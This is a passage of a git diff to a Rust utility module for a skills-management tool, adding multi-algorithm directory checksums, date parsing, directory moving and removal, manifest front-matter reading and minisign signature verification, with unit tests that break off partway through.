@@ -1,17 +1,108 @@
-use std::{fs, io, path::Path};
+use std::{
+    fs, io,
+    path::{Path, PathBuf},
+};
 
 use crate::errors::{SkillsError, SkillsResult};
-use sha2::{Digest, Sha256};
+use clap::ValueEnum;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256, Sha512};
+use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
+use std::sync::{Mutex, OnceLock};
+use std::thread;
+use std::time::{SystemTime, UNIX_EPOCH};
+use unicode_normalization::UnicodeNormalization;
 use walkdir::WalkDir;
 
-pub fn calculate_checksum(dir: &Path) -> Result<String, io::Error> {
-    let mut hasher = Sha256::new();
-    let mut paths: Vec<_> = WalkDir::new(dir)
-        .into_iter()
-        .filter_map(|e| e.ok())
-        .filter(|e| e.file_type().is_file())
-        .map(|e| e.path().to_path_buf())
-        .collect();
+/// Hash algorithm for directory checksums. The algorithm is recorded as the
+/// checksum's prefix (e.g. `blake3:...`), so entries can mix algorithms.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum ChecksumAlgorithm {
+    #[default]
+    Sha256,
+    Sha512,
+    Blake3,
+}
+
+impl ChecksumAlgorithm {
+    fn prefix(self) -> &'static str {
+        match self {
+            ChecksumAlgorithm::Sha256 => "sha256",
+            ChecksumAlgorithm::Sha512 => "sha512",
+            ChecksumAlgorithm::Blake3 => "blake3",
+        }
+    }
+
+    /// Length of the hex digest the algorithm produces.
+    fn hex_len(self) -> usize {
+        match self {
+            ChecksumAlgorithm::Sha256 | ChecksumAlgorithm::Blake3 => 64,
+            ChecksumAlgorithm::Sha512 => 128,
+        }
+    }
+
+    /// The algorithm that produced `checksum`, judging by its prefix.
+    pub fn of_checksum(checksum: &str) -> Option<Self> {
+        let (prefix, _) = checksum.split_once(':')?;
+        [Self::Sha256, Self::Sha512, Self::Blake3]
+            .into_iter()
+            .find(|algorithm| algorithm.prefix() == prefix)
+    }
+}
+
+enum Hasher {
+    Sha256(Sha256),
+    Sha512(Sha512),
+    Blake3(Box<blake3::Hasher>),
+}
+
+impl Hasher {
+    fn new(algorithm: ChecksumAlgorithm) -> Self {
+        match algorithm {
+            ChecksumAlgorithm::Sha256 => Hasher::Sha256(Sha256::new()),
+            ChecksumAlgorithm::Sha512 => Hasher::Sha512(Sha512::new()),
+            ChecksumAlgorithm::Blake3 => Hasher::Blake3(Box::default()),
+        }
+    }
+
+    fn update(&mut self, data: &[u8]) {
+        match self {
+            Hasher::Sha256(hasher) => hasher.update(data),
+            Hasher::Sha512(hasher) => hasher.update(data),
+            Hasher::Blake3(hasher) => {
+                hasher.update(data);
+            }
+        }
+    }
+
+    fn finalize_hex(self) -> String {
+        match self {
+            Hasher::Sha256(hasher) => format!("{:x}", hasher.finalize()),
+            Hasher::Sha512(hasher) => format!("{:x}", hasher.finalize()),
+            Hasher::Blake3(hasher) => hasher.finalize().to_hex().to_string(),
+        }
+    }
+}
+
+/// Checksum every file (and its relative path) under `dir`, prefixed with
+/// the algorithm name.
+pub fn calculate_checksum(dir: &Path, algorithm: ChecksumAlgorithm) -> Result<String, io::Error> {
+    let mut hasher = Hasher::new(algorithm);
+    let mut paths = Vec::new();
+    for entry in walk_skill_tree(dir).filter_map(|e| e.ok()) {
+        if entry.depth() > MAX_TREE_DEPTH {
+            return Err(io::Error::other(format!(
+                "{} is nested more than {} directories deep; refusing to checksum it",
+                dir.display(),
+                MAX_TREE_DEPTH
+            )));
+        }
+        if entry.file_type().is_file() {
+            paths.push(entry.into_path());
+        }
+    }
 
     paths.sort();
 
@@ -23,10 +114,125 @@ pub fn calculate_checksum(dir: &Path) -> Result<String, io::Error> {
         hasher.update(&contents);
     }
 
-    Ok(format!("sha256:{:x}", hasher.finalize()))
+    Ok(format!("{}:{}", algorithm.prefix(), hasher.finalize_hex()))
+}
+
+/// Deepest nesting below a skill directory that checksumming will walk.
+const MAX_TREE_DEPTH: usize = 32;
+
+/// Walk a skill directory without following symlinks below it, so link
+/// cycles cannot loop; symlinked files and directories are not hashed. The
+/// walk goes one level past [`MAX_TREE_DEPTH`] so callers can tell when a
+/// tree exceeds it.
+fn walk_skill_tree(dir: &Path) -> walkdir::IntoIter {
+    WalkDir::new(dir)
+        .follow_links(false)
+        .max_depth(MAX_TREE_DEPTH + 1)
+        .into_iter()
+}
+
+/// Checksum recorded for skills installed with `--skip-checksum`. Their files
+/// are never hashed, so local changes go unnoticed and only a new upstream
+/// commit makes `sync` download them again.
+pub const SKIPPED_CHECKSUM: &str = "skipped";
+
+/// Split a recorded `<algorithm>:<hex>` checksum into its algorithm and
+/// digest, checking the digest has the length that algorithm produces. An
+/// `Err` explains why the checksum cannot be compared with a fresh one, e.g.
+/// because it was written by a newer version with another algorithm.
+pub fn parse_checksum(checksum: &str) -> Result<(ChecksumAlgorithm, &str), String> {
+    let Some((prefix, digest)) = checksum.split_once(':') else {
+        return Err(format!("'{checksum}' has no algorithm prefix"));
+    };
+    let Some(algorithm) = ChecksumAlgorithm::of_checksum(checksum) else {
+        return Err(format!("unknown checksum algorithm '{prefix}'"));
+    };
+    if digest.len() != algorithm.hex_len() || !digest.bytes().all(|c| c.is_ascii_hexdigit()) {
+        return Err(format!(
+            "'{checksum}' is not a {} hex digest",
+            algorithm.prefix()
+        ));
+    }
+    Ok((algorithm, digest))
+}
+
+/// Whether the contents of `dir` match `expected`, using the algorithm named
+/// by its prefix. Checksums [`parse_checksum`] rejects never match;
+/// [`SKIPPED_CHECKSUM`] always does.
+pub fn checksum_matches(dir: &Path, expected: &str) -> Result<bool, io::Error> {
+    if expected == SKIPPED_CHECKSUM {
+        return Ok(true);
+    }
+    let Ok((algorithm, _)) = parse_checksum(expected) else {
+        return Ok(false);
+    };
+    Ok(calculate_checksum(dir, algorithm)? == expected)
+}
+
+/// Number of files under `dir` and their total size in bytes, walking the
+/// tree the way checksums do.
+pub fn dir_size(dir: &Path) -> Result<(usize, u64), io::Error> {
+    let mut files = 0;
+    let mut bytes = 0;
+    for entry in walk_skill_tree(dir) {
+        let entry = entry.map_err(io::Error::other)?;
+        if entry.file_type().is_file() {
+            files += 1;
+            bytes += entry.metadata().map_err(io::Error::other)?.len();
+        }
+    }
+    Ok((files, bytes))
+}
+
+/// Modification times this close to now may still change within the
+/// filesystem's timestamp granularity, so they are not cached.
+const MTIME_SETTLE_NANOS: u64 = 2_000_000_000;
+
+/// Newest modification time (ns since the epoch) of `dir` and everything
+/// below it. Directory mtimes cover added, removed and renamed files.
+pub fn tree_mtime(dir: &Path) -> Result<u64, io::Error> {
+    let mut newest = 0;
+    for entry in WalkDir::new(dir) {
+        let modified = entry.map_err(io::Error::other)?.metadata()?.modified()?;
+        let nanos = modified
+            .duration_since(UNIX_EPOCH)
+            .map(|d| d.as_nanos() as u64)
+            .unwrap_or_default();
+        newest = newest.max(nanos);
+    }
+    Ok(newest)
+}
+
+/// [`tree_mtime`] of `dir`, or `None` when it is too recent (or in the
+/// future) to be trusted as a cache key.
+pub fn cacheable_tree_mtime(dir: &Path) -> Option<u64> {
+    let mtime = tree_mtime(dir).ok().filter(|&mtime| mtime > 0)?;
+    let now = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .ok()?
+        .as_nanos() as u64;
+    (mtime.saturating_add(MTIME_SETTLE_NANOS) <= now).then_some(mtime)
+}
+
+/// File that marks a directory as a skill unless `[config] manifest_names`
+/// says otherwise.
+pub const DEFAULT_MANIFEST_NAME: &str = "SKILL.md";
+
+/// Whether `file_name` is one of the skill manifest `names` (case-insensitive).
+/// An empty list means [`DEFAULT_MANIFEST_NAME`].
+pub fn is_manifest_name(file_name: &str, names: &[String]) -> bool {
+    if names.is_empty() {
+        return file_name.eq_ignore_ascii_case(DEFAULT_MANIFEST_NAME);
+    }
+    names
+        .iter()
+        .any(|name| file_name.eq_ignore_ascii_case(name))
 }
 
-pub fn ensure_skill_manifest(dir: &Path) -> SkillsResult<()> {
+/// Check that `dir` contains one of the skill manifest `names` with some
+/// content. A directory with nothing but hidden files (e.g. `.gitkeep`) is
+/// reported as an empty skill rather than a missing manifest.
+pub fn ensure_skill_manifest(dir: &Path, names: &[String]) -> SkillsResult<()> {
     let entries = fs::read_dir(dir)?;
     for entry in entries {
         let entry = entry?;
@@ -37,19 +243,752 @@ pub fn ensure_skill_manifest(dir: &Path) -> SkillsResult<()> {
         let Some(name) = name.to_str() else {
             continue;
         };
-        if name.eq_ignore_ascii_case("SKILL.md") {
+        if is_manifest_name(name, names) {
+            let contents = fs::read(entry.path())?;
+            if contents.iter().all(u8::is_ascii_whitespace) {
+                return Err(SkillsError::EmptySkill(format!("{name} is empty")));
+            }
             return Ok(());
         }
     }
 
+    if !has_visible_file(dir) {
+        return Err(SkillsError::EmptySkill(
+            "The directory has no files apart from hidden ones such as .gitkeep".to_string(),
+        ));
+    }
     Err(SkillsError::MissingSkillManifest)
 }
 
+/// Whether any file below `dir` has a name that doesn't start with a dot.
+fn has_visible_file(dir: &Path) -> bool {
+    WalkDir::new(dir)
+        .into_iter()
+        .filter_map(|entry| entry.ok())
+        .any(|entry| {
+            entry.file_type().is_file() && !entry.file_name().to_string_lossy().starts_with('.')
+        })
+}
+
+/// Whether every `/`-separated part of the skill name `name` is safe to use
+/// as a directory name on any platform.
+pub fn is_safe_skill_name(name: &str) -> bool {
+    name.split('/').all(|part| {
+        !part.is_empty()
+            && !part.starts_with('.')
+            && part
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
+    })
+}
+
+/// Fold a skill name the way case-insensitive, normalization-insensitive
+/// filesystems (macOS, Windows) compare directory names.
+pub fn normalize_skill_name(name: &str) -> String {
+    name.nfc().collect::<String>().to_lowercase()
+}
+
+/// `name` with `prefix` (`install --prefix`) put in front of its last
+/// segment, so nested skills keep their category: `writing/editor` becomes
+/// `writing/acme-editor`.
+pub fn prefixed_name(name: &str, prefix: &str) -> String {
+    match name.rsplit_once('/') {
+        Some((parent, skill)) => format!("{}/{}{}", parent, prefix, skill),
+        None => format!("{}{}", prefix, name),
+    }
+}
+
+/// Return the first of `existing` that is a different name from `name` but
+/// would refer to the same directory on a case-insensitive filesystem.
+pub fn find_name_collision<'a, I>(name: &str, existing: I) -> Option<&'a str>
+where
+    I: IntoIterator<Item = &'a str>,
+{
+    let normalized = normalize_skill_name(name);
+    existing
+        .into_iter()
+        .find(|other| *other != name && normalize_skill_name(other) == normalized)
+}
+
+/// Parse a user-supplied `YYYY-MM-DD` date or `YYYY-MM-DDTHH:MM:SSZ`
+/// timestamp into an ISO 8601 timestamp. Bare dates resolve to the end of
+/// that day (UTC) so commits made on the date itself are included.
+pub fn parse_until_date(value: &str) -> SkillsResult<String> {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    let re = RE.get_or_init(|| {
+        Regex::new(r"^(\d{4})-(\d{2})-(\d{2})(?:T(\d{2}):(\d{2}):(\d{2})Z)?$").unwrap()
+    });
+
+    let value = value.trim();
+    let invalid = || SkillsError::InvalidDate(value.to_string());
+    let captures = re.captures(value).ok_or_else(invalid)?;
+    let field = |idx: usize| {
+        captures
+            .get(idx)
+            .map(|m| m.as_str().parse::<u32>().unwrap())
+    };
+
+    let (year, month, day) = (field(1).unwrap(), field(2).unwrap(), field(3).unwrap());
+    let days_in_month = match month {
+        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
+        4 | 6 | 9 | 11 => 30,
+        2 if year % 4 == 0 && (year % 100 != 0 || year % 400 == 0) => 29,
+        2 => 28,
+        _ => return Err(invalid()),
+    };
+    if day == 0 || day > days_in_month {
+        return Err(invalid());
+    }
+
+    match (field(4), field(5), field(6)) {
+        (Some(hour), Some(minute), Some(second)) => {
+            if hour > 23 || minute > 59 || second > 59 {
+                return Err(invalid());
+            }
+            Ok(value.to_string())
+        }
+        _ => Ok(format!("{value}T23:59:59Z")),
+    }
+}
+
+/// Convert an ISO 8601 `YYYY-MM-DDTHH:MM:SSZ` timestamp (or bare date) into
+/// seconds since the Unix epoch. Returns `None` for anything else.
+pub fn parse_timestamp(value: &str) -> Option<u64> {
+    let value = parse_until_date(value).ok()?;
+    let field = |range: std::ops::Range<usize>| value.get(range)?.parse::<i64>().ok();
+    let (year, month, day) = (field(0..4)?, field(5..7)?, field(8..10)?);
+    let (hour, minute, second) = (field(11..13)?, field(14..16)?, field(17..19)?);
+
+    // Days from civil, per Howard Hinnant's algorithm.
+    let y = if month <= 2 { year - 1 } else { year };
+    let era = y.div_euclid(400);
+    let yoe = y - era * 400;
+    let doy = (153 * ((month + 9) % 12) + 2) / 5 + day - 1;
+    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
+    let days = era * 146_097 + doe - 719_468;
+
+    u64::try_from(days * 86_400 + hour * 3_600 + minute * 60 + second).ok()
+}
+
+/// Whether two commit SHAs name the same commit. Providers store full SHAs,
+/// but entries written by older versions may hold an abbreviation, so a hex
+/// prefix of at least 7 characters also matches.
+pub fn same_commit(a: &str, b: &str) -> bool {
+    if a.eq_ignore_ascii_case(b) {
+        return true;
+    }
+    let (short, long) = if a.len() < b.len() { (a, b) } else { (b, a) };
+    short.len() >= 7
+        && short.bytes().all(|c| c.is_ascii_hexdigit())
+        && long.is_char_boundary(short.len())
+        && long[..short.len()].eq_ignore_ascii_case(short)
+}
+
+/// Format seconds since the Unix epoch as an RFC 3339 UTC timestamp.
+pub fn format_timestamp(secs: u64) -> String {
+    let days = (secs / 86_400) as i64;
+    let rem = secs % 86_400;
+
+    // Civil from days, per Howard Hinnant's algorithm.
+    let z = days + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+
+    format!(
+        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
+        rem / 3_600,
+        rem % 3_600 / 60,
+        rem % 60
+    )
+}
+
+/// The current time as an RFC 3339 UTC timestamp.
+pub fn current_timestamp() -> String {
+    let secs = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default();
+    format_timestamp(secs)
+}
+
+/// A hidden directory name `.<stem>.<pid>.<nonce>.tmp` that no other process
+/// (or other call in this one) will pick, so concurrent runs don't share
+/// scratch space.
+pub fn unique_temp_name(stem: &str) -> String {
+    static COUNTER: AtomicU64 = AtomicU64::new(0);
+    let nanos = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.subsec_nanos())
+        .unwrap_or_default();
+    let count = COUNTER.fetch_add(1, Ordering::Relaxed);
+    format!(
+        ".{}.{}.{:x}{:x}.tmp",
+        stem,
+        std::process::id(),
+        nanos,
+        count
+    )
+}
+
+/// Whether `file_name` is a temp directory name made by [`unique_temp_name`]
+/// for `stem`, or the fixed `.<stem>.tmp` used by older versions.
+pub fn is_temp_name_for(file_name: &str, stem: &str) -> bool {
+    let Some(rest) = file_name
+        .strip_prefix('.')
+        .and_then(|rest| rest.strip_prefix(stem))
+        .and_then(|rest| rest.strip_prefix('.'))
+        .and_then(|rest| rest.strip_suffix("tmp"))
+    else {
+        return false;
+    };
+    rest.is_empty()
+        || rest
+            .strip_suffix('.')
+            .and_then(|rest| rest.split_once('.'))
+            .is_some_and(|(pid, nonce)| {
+                !pid.is_empty()
+                    && !nonce.is_empty()
+                    && pid.chars().all(|c| c.is_ascii_digit())
+                    && nonce.chars().all(|c| c.is_ascii_hexdigit())
+            })
+}
+
+/// Match `name` against a shell-style glob where `*` matches any run of
+/// characters and `?` matches exactly one.
+pub fn glob_match(pattern: &str, name: &str) -> bool {
+    Regex::new(&glob_regex(pattern)).is_ok_and(|re| re.is_match(name))
+}
+
+/// The regex, anchored at both ends, equivalent to the glob `pattern` of
+/// [`glob_match`].
+pub fn glob_regex(pattern: &str) -> String {
+    let mut regex = String::from("^");
+    for c in pattern.chars() {
+        match c {
+            '*' => regex.push_str(".*"),
+            '?' => regex.push('.'),
+            c => regex.push_str(&regex::escape(&c.to_string())),
+        }
+    }
+    regex.push('$');
+    regex
+}
+
+/// The repository a source URL points into as lowercase `host/owner/repo`,
+/// e.g. `github.com/owner/repo` for both
+/// `https://github.com/owner/repo/tree/main/skill` and
+/// `git+ssh://git@github.com/owner/repo.git#main:skill`.
+pub fn source_id(url: &str) -> Option<String> {
+    let (_, rest) = url.split_once("://")?;
+    let rest = rest.split(['#', '?']).next().unwrap_or_default();
+    let (authority, path) = rest.split_once('/')?;
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = host.split(':').next().unwrap_or(host);
+    let mut segments = path.split('/').filter(|segment| !segment.is_empty());
+    let owner = segments.next()?;
+    let repo = segments.next()?;
+    let repo = repo.strip_suffix(".git").unwrap_or(repo);
+    if host.is_empty() {
+        return None;
+    }
+    Some(format!("{host}/{owner}/{repo}").to_lowercase())
+}
+
+/// Whether `pattern` contains glob wildcards.
+pub fn is_glob(pattern: &str) -> bool {
+    pattern.contains(['*', '?'])
+}
+
+/// Format a byte count for humans, e.g. `1.5 MiB`.
+pub fn format_bytes(bytes: u64) -> String {
+    const UNITS: [&str; 4] = ["KiB", "MiB", "GiB", "TiB"];
+    if bytes < 1024 {
+        return format!("{bytes} B");
+    }
+    let mut value = bytes as f64 / 1024.0;
+    let mut unit = 0;
+    while value >= 1024.0 && unit < UNITS.len() - 1 {
+        value /= 1024.0;
+        unit += 1;
+    }
+    format!("{value:.1} {}", UNITS[unit])
+}
+
+/// Number of worker threads to use when none is configured: one per CPU.
+pub fn default_jobs() -> usize {
+    thread::available_parallelism().map_or(1, |n| n.get())
+}
+
+/// Apply `f` to every item on up to `jobs` threads. Results come back in the
+/// order of `items`, however the work was scheduled.
+pub fn parallel_map<T, R, F>(items: &[T], jobs: usize, f: F) -> Vec<R>
+where
+    T: Sync,
+    R: Send,
+    F: Fn(&T) -> R + Sync,
+{
+    let jobs = jobs.clamp(1, items.len().max(1));
+    if jobs == 1 {
+        return items.iter().map(f).collect();
+    }
+
+    let next = AtomicUsize::new(0);
+    let results: Mutex<Vec<Option<R>>> = Mutex::new(items.iter().map(|_| None).collect());
+    thread::scope(|scope| {
+        for _ in 0..jobs {
+            scope.spawn(|| {
+                loop {
+                    let idx = next.fetch_add(1, Ordering::Relaxed);
+                    let Some(item) = items.get(idx) else {
+                        break;
+                    };
+                    let result = f(item);
+                    results.lock().unwrap_or_else(|e| e.into_inner())[idx] = Some(result);
+                }
+            });
+        }
+    });
+    results
+        .into_inner()
+        .unwrap_or_else(|e| e.into_inner())
+        .into_iter()
+        .map(|result| result.expect("every item is mapped once"))
+        .collect()
+}
+
+/// Whether `path` itself is a symbolic link (the link is not followed).
+pub fn is_symlink(path: &Path) -> bool {
+    fs::symlink_metadata(path).is_ok_and(|meta| meta.file_type().is_symlink())
+}
+
+/// Remove a skill directory. A symlink is removed itself and its target is
+/// left untouched.
+pub fn remove_skill_dir(path: &Path) -> io::Result<()> {
+    if is_symlink(path) {
+        // Windows directory links can only be removed with `remove_dir`.
+        return fs::remove_file(path).or_else(|_| fs::remove_dir(path));
+    }
+    fs::remove_dir_all(path)
+}
+
+/// Move the directory `from` to `to`. When they are on different filesystems
+/// (`EXDEV`), where a rename cannot work, the tree is copied and `from`
+/// removed instead; a copy that fails halfway is removed again so `to` never
+/// holds a partial skill.
+pub fn move_dir(from: &Path, to: &Path) -> io::Result<()> {
+    match fs::rename(from, to) {
+        Err(e) if e.kind() == io::ErrorKind::CrossesDevices => copy_then_remove(from, to),
+        result => result,
+    }
+}
+
+fn copy_then_remove(from: &Path, to: &Path) -> io::Result<()> {
+    if let Err(e) = copy_dir(from, to) {
+        fs::remove_dir_all(to).ok();
+        return Err(e);
+    }
+    fs::remove_dir_all(from)
+}
+
+fn copy_dir(from: &Path, to: &Path) -> io::Result<()> {
+    fs::create_dir(to)?;
+    for entry in fs::read_dir(from)? {
+        let entry = entry?;
+        let target = to.join(entry.file_name());
+        let file_type = entry.file_type()?;
+        if file_type.is_dir() {
+            copy_dir(&entry.path(), &target)?;
+        } else if file_type.is_symlink() {
+            copy_symlink(&entry.path(), &target)?;
+        } else {
+            fs::copy(entry.path(), &target)?;
+        }
+    }
+    Ok(())
+}
+
+#[cfg(unix)]
+fn copy_symlink(from: &Path, to: &Path) -> io::Result<()> {
+    std::os::unix::fs::symlink(fs::read_link(from)?, to)
+}
+
+#[cfg(not(unix))]
+fn copy_symlink(from: &Path, to: &Path) -> io::Result<()> {
+    fs::copy(from, to).map(|_| ())
+}
+
+/// Remove the directories between `path` and `root` that are left empty,
+/// deepest first. `root` itself is kept, and the walk stops at the first
+/// directory that still holds anything (dotfiles included).
+pub fn prune_empty_parents(path: &Path, root: &Path) {
+    let mut parent = path.parent();
+    while let Some(dir) = parent
+        && dir != root
+        && dir.starts_with(root)
+    {
+        if fs::remove_dir(dir).is_err() {
+            break;
+        }
+        parent = dir.parent();
+    }
+}
+
+/// The `description` field of a manifest's YAML front matter, if any.
+pub fn manifest_description(content: &str) -> Option<String> {
+    front_matter_field(content, "description")
+}
+
+/// The `name` field of a manifest's YAML front matter, if any.
+pub fn manifest_name(content: &str) -> Option<String> {
+    front_matter_field(content, "name")
+}
+
+/// The keys of `required` that the manifest in `dir` leaves out of its
+/// front matter or leaves empty. A manifest that cannot be read lacks all of
+/// them.
+pub fn missing_front_matter(dir: &Path, names: &[String], required: &[String]) -> Vec<String> {
+    let content = manifest_file(dir, names)
+        .and_then(|path| fs::read_to_string(path).ok())
+        .unwrap_or_default();
+    required
+        .iter()
+        .filter(|key| front_matter_field(&content, key).is_none())
+        .cloned()
+        .collect()
+}
+
+/// The manifest file directly inside `dir`, if there is one.
+fn manifest_file(dir: &Path, names: &[String]) -> Option<PathBuf> {
+    fs::read_dir(dir)
+        .into_iter()
+        .flatten()
+        .filter_map(|entry| entry.ok())
+        .find(|entry| {
+            entry.file_type().is_ok_and(|t| t.is_file())
+                && is_manifest_name(&entry.file_name().to_string_lossy(), names)
+        })
+        .map(|entry| entry.path())
+}
+
+/// File listing the SHA-256 of every file of a signed skill, in the format
+/// of `sha256sum`. Its minisign signature sits next to it with a `.minisig`
+/// extension.
+pub const SIGNED_SUMS_FILE: &str = "SHA256SUMS";
+
+/// Check that the skill in `dir` is signed by one of the base64 public keys in
+/// `trusted_keys`: `SHA256SUMS.minisig` must be a valid signature of
+/// `SHA256SUMS`, which must list every other file of the skill with its
+/// SHA-256. Fails with the reason the skill cannot be trusted.
+pub fn verify_skill_signature(dir: &Path, trusted_keys: &[String]) -> Result<(), String> {
+    if trusted_keys.is_empty() {
+        return Err("no trusted_keys are configured under [config]".to_string());
+    }
+    let signature_name = format!("{}.minisig", SIGNED_SUMS_FILE);
+    let Ok(sums) = fs::read(dir.join(SIGNED_SUMS_FILE)) else {
+        return Err(format!("{} is missing", SIGNED_SUMS_FILE));
+    };
+    let Ok(signature) = fs::read_to_string(dir.join(&signature_name)) else {
+        return Err(format!("{} is missing", signature_name));
+    };
+    let signature = minisign_verify::Signature::decode(&signature)
+        .map_err(|e| format!("{} is not a minisign signature: {}", signature_name, e))?;
+
+    let mut signed = false;
+    for key in trusted_keys {
+        let key = minisign_verify::PublicKey::from_base64(key)
+            .map_err(|e| format!("trusted key '{}' is invalid: {}", key, e))?;
+        match key.verify(&sums, &signature, true) {
+            Ok(()) => {
+                signed = true;
+                break;
+            }
+            Err(minisign_verify::Error::UnexpectedKeyId) => continue,
+            Err(_) => {
+                return Err(format!(
+                    "{} does not match the contents of {}",
+                    signature_name, SIGNED_SUMS_FILE
+                ));
+            }
+        }
+    }
+    if !signed {
+        return Err(format!(
+            "{} was made with a key that is not in trusted_keys",
+            signature_name
+        ));
+    }
+    check_signed_sums(dir, &String::from_utf8_lossy(&sums))
+}
+
+/// Compare the files of `dir` with the `sha256sum` lines of `sums`: each file
+/// must be listed with its SHA-256, and each listed file must exist.
+fn check_signed_sums(dir: &Path, sums: &str) -> Result<(), String> {
+    let mut listed = std::collections::BTreeMap::new();
+    for line in sums.lines().filter(|line| !line.trim().is_empty()) {
+        let Some((hash, path)) = line.split_once(' ') else {
+            return Err(format!(
+                "{} has a malformed line: {}",
+                SIGNED_SUMS_FILE, line
+            ));
+        };
+        let path = path.trim_start_matches([' ', '*']);
+        let path = path.strip_prefix("./").unwrap_or(path);
+        listed.insert(path.to_string(), hash.to_ascii_lowercase());
+    }
+
+    let signature_name = format!("{}.minisig", SIGNED_SUMS_FILE);
+    for entry in WalkDir::new(dir).min_depth(1).sort_by_file_name() {
+        let entry = entry.map_err(|e| e.to_string())?;
+        if entry.file_type().is_dir() {
+            continue;
+        }
+        let relative = entry.path().strip_prefix(dir).unwrap_or(entry.path());
+        let relative = relative.to_string_lossy().replace('\\', "/");
+        if relative == SIGNED_SUMS_FILE || relative == signature_name {
+            continue;
+        }
+        let Some(expected) = listed.remove(&relative) else {
+            return Err(format!(
+                "{} is not listed in {}",
+                relative, SIGNED_SUMS_FILE
+            ));
+        };
+        // Like `sha256sum`, a symlink is hashed by the content it points to.
+        let content = fs::read(entry.path()).map_err(|e| format!("{}: {}", relative, e))?;
+        if format!("{:x}", Sha256::digest(&content)) != expected {
+            return Err(format!(
+                "{} does not match its hash in {}",
+                relative, SIGNED_SUMS_FILE
+            ));
+        }
+    }
+    match listed.into_keys().next() {
+        Some(missing) => Err(format!(
+            "{} is listed in {} but missing",
+            missing, SIGNED_SUMS_FILE
+        )),
+        None => Ok(()),
+    }
+}
+
+fn front_matter_field(content: &str, key: &str) -> Option<String> {
+    let mut lines = content.lines();
+    if lines.next()?.trim() != "---" {
+        return None;
+    }
+    lines
+        .take_while(|line| line.trim() != "---")
+        .find_map(|line| line.strip_prefix(key)?.strip_prefix(':'))
+        .map(|value| value.trim().trim_matches(['"', '\'']).to_string())
+        .filter(|value| !value.is_empty())
+}
+
+/// The user's home directory, from `HOME` or (on Windows) `USERPROFILE`.
+pub fn home_dir() -> Option<PathBuf> {
+    std::env::var("HOME")
+        .or_else(|_| std::env::var("USERPROFILE"))
+        .ok()
+        .map(PathBuf::from)
+}
+
+/// Expand a leading `~` and `$VAR`, `${VAR}` or `%VAR%` references in a
+/// user-supplied path. Unset variables are left as written.
+pub fn expand_path(path: &str) -> PathBuf {
+    expand_path_with(path, |name| std::env::var(name).ok(), home_dir())
+}
+
+fn expand_path_with(
+    path: &str,
+    lookup: impl Fn(&str) -> Option<String>,
+    home: Option<PathBuf>,
+) -> PathBuf {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    let re = RE.get_or_init(|| {
+        Regex::new(
+            r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%",
+        )
+        .unwrap()
+    });
+    let expanded = re.replace_all(path, |caps: &regex::Captures| {
+        let name = caps
+            .get(1)
+            .or_else(|| caps.get(2))
+            .or_else(|| caps.get(3))
+            .map_or("", |m| m.as_str());
+        lookup(name).unwrap_or_else(|| caps[0].to_string())
+    });
+
+    if let Some(home) = home
+        && let Some(rest) = expanded.strip_prefix('~')
+        && (rest.is_empty() || rest.starts_with(['/', '\\']))
+    {
+        return home.join(rest.trim_start_matches(['/', '\\']));
+    }
+    PathBuf::from(expanded.into_owned())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use std::fs;
 
+    #[test]
+    fn test_manifest_description() {
+        let manifest = "---\nname: demo\ndescription: \"Does things\"\n---\n# Demo\n";
+        assert_eq!(
+            manifest_description(manifest).as_deref(),
+            Some("Does things")
+        );
+        assert_eq!(manifest_description("# Demo\ndescription: no"), None);
+        assert_eq!(
+            manifest_description("---\nname: demo\n---\ndescription: body"),
+            None
+        );
+        assert_eq!(manifest_name(manifest).as_deref(), Some("demo"));
+        assert_eq!(manifest_name("---\nnamespace: x\n---\n"), None);
+    }
+
+    #[test]
+    fn test_missing_front_matter() {
+        let temp_dir = std::env::temp_dir().join("skills_test_missing_front_matter");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(&temp_dir).unwrap();
+        fs::write(
+            temp_dir.join("SKILL.md"),
+            "---\nname: demo\ndescription: Does things\nlicense:\n---\n# Demo\n",
+        )
+        .unwrap();
+
+        let required = ["name", "version", "license"].map(str::to_string);
+        assert_eq!(
+            missing_front_matter(&temp_dir, &[], &required),
+            ["version", "license"]
+        );
+        assert_eq!(
+            missing_front_matter(&temp_dir.join("missing"), &[], &required),
+            required
+        );
+
+        fs::remove_dir_all(&temp_dir).unwrap();
+    }
+
+    #[test]
+    fn test_verify_skill_signature() {
+        let temp_dir = std::env::temp_dir().join("skills_test_verify_skill_signature");
+        fs::remove_dir_all(&temp_dir).ok();
+        fs::create_dir_all(temp_dir.join("scripts")).unwrap();
+        fs::write(temp_dir.join("SKILL.md"), "# Demo\n").unwrap();
+        fs::write(temp_dir.join("scripts/run.sh"), "echo hi\n").unwrap();
+        let trusted = ["RWQBI0VniavN7woWOhezxmKDisAtE+JxKqW+97gPFc0OzEw9iLNH8v65".to_string()];
+        let other = ["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3".to_string()];
+
+        assert_eq!(
+            verify_skill_signature(&temp_dir, &trusted).unwrap_err(),
+            "SHA256SUMS is missing"
+        );
+        fs::write(
+            temp_dir.join("SHA256SUMS"),
